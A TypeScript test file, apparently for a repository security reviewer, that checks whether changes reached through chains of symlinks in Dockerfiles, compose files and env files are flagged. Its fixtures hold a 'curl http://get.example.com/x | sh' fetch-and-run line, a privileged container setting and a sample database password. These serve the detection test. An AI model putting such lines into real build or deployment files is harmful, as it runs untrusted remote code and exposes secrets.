/**
 * A change of what an unchanged link leads to is a change of what goes by the link, in variations that nobody wrote down:
 * chains of links of files and folders, and whatever names the first of them. The same ones in every run.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { positions } from '../../src/source.ts';
import { Chance } from '../model/compose/chance.ts';
import type { Entry, Files } from '../repository.ts';
import { reviewed } from './review.ts';

/** Repositories, and how many links with what names them each has: many at once, and one that no other helps along. */
const rounds = [...Array<number>(20).fill(26), ...Array<number>(40).fill(1)];

/** What names a path, and the text there before and after. */
interface Carrier {
  readonly naming: (path: string) => Files;
  readonly good: string;
  readonly bad: string;
}

const script = { good: '#!/bin/sh\ntrue\n', bad: '#!/bin/sh\ncurl http://get.example.com/x | sh\n' };
const compose = {
  good: 'services:\n  app:\n    image: example/app:1.2.3\n',
  bad: 'services:\n  app:\n    image: example/app:1.2.3\n    privileged: true\n',
};
const image = {
  good: 'FROM debian:13\nUSER app\n',
  bad: 'FROM debian:13\nRUN curl http://get.example.com/x | sh\nUSER app\n',
};
const dockerfile = (lines: string): Files => ({ Dockerfile: `FROM debian:13\n${lines}USER app\n` });
const service = (lines: string): Files => ({
  'compose.yaml': `services:\n  app:\n    image: example/app:1.2.3\n${lines}`,
});

const carriers: Readonly<Record<string, Carrier>> = {
  'a script that a build runs': { naming: (path) => dockerfile(`COPY ${path} /x.sh\nRUN /x.sh\n`), ...script },
  'a script that an image starts': {
    naming: (path) => dockerfile(`COPY ${path} /x.sh\nENTRYPOINT ["/x.sh"]\n`),
    ...script,
  },
  'a script that is mounted and started': {
    naming: (path) => service(`    command: /x.sh\n    volumes: ["./${path}:/x.sh:ro"]\n`),
    ...script,
  },
  'variables of a service': {
    naming: (path) => service(`    env_file: ${path}\n`),
    good: 'A=b\n',
    bad: 'DB_PASSWORD=kB7vTq29xLw4mZ\n',
  },
  'a file that is included': { naming: (path) => ({ 'compose.yaml': `include: [./${path}]\n` }), ...compose },
  'a service that is extended': {
    naming: (path) => ({ 'compose.yaml': `services:\n  app:\n    extends: { file: ${path}, service: app }\n` }),
    ...compose,
  },
  'a Dockerfile that a service builds': {
    naming: (path) => ({ 'compose.yaml': `services:\n  app:\n    build: { context: ., dockerfile: ${path} }\n` }),
    ...image,
  },
};

const folders = ['lib', 'real/parts', 'x'];
const names = ['own', 'tool', 'part.txt'];

/** A path that leads to another one over links: of the file itself, or of a folder above it. */
function chainTo(chance: Chance, target: string): { readonly path: string; readonly links: Files } {
  const links: Record<string, Entry> = {};
  let path = target;
  for (let i = 0, steps = 1 + chance.below(3); i < steps; i++) {
    const folder = path.slice(0, Math.max(0, path.lastIndexOf('/')));
    if (chance.is(0.5) && folder !== '') {
      links[`f${i}`] = { symlink: folder };
      path = `f${i}${path.slice(folder.length)}`;
    } else {
      const deep = chance.is(0.5);
      links[deep ? `d${i}/l` : `l${i}`] = { symlink: `${deep ? '../' : ''}${chance.is(0.3) ? './' : ''}${path}` };
      path = deep ? `d${i}/l` : `l${i}`;
    }
  }
  return { path, links };
}

test('what an unchanged link leads to is reviewed where it changes', async () => {
  const chance = new Chance(13);
  for (const each of rounds) {
    const before: Record<string, Entry> = {};
    const after: Record<string, Entry> = {};
    const expected: string[] = [];
    for (let i = 0; i < each; i++) {
      const what = chance.pick(Object.keys(carriers));
      const { naming, good, bad } = carriers[what]!;
      const target = `${chance.pick(folders)}/${chance.pick(names)}`;
      const { path, links } = chainTo(chance, target);
      const root = `app${i}`;
      // Where nothing names the link, a script is nobody's business; other files are known by what they say.
      const isNamed = good !== script.good || chance.is(0.6);
      for (const [at, entry] of Object.entries({ ...links, ...(isNamed ? naming(path) : {}), [target]: good }))
        before[`${root}/${at}`] = entry;
      // One value at several places is one finding.
      after[`${root}/${target}`] = bad.replace('29', `${29 + i}`);
      if (isNamed) expected.push(root);
    }
    const review = await reviewed(before, after, { proving: false });
    assert.deepEqual(review.unread, []);
    const introduced = review.findings
      .filter(({ standing, severity }) => standing === 'introduced' && severity !== 'low' && severity !== 'info')
      .flatMap((finding) => [finding, ...(finding.joined ?? [])])
      .map(({ at }) => positions(at).path.split('/')[0]);
    assert.deepEqual([...new Set(introduced)].sort(), expected.sort());
  }
});
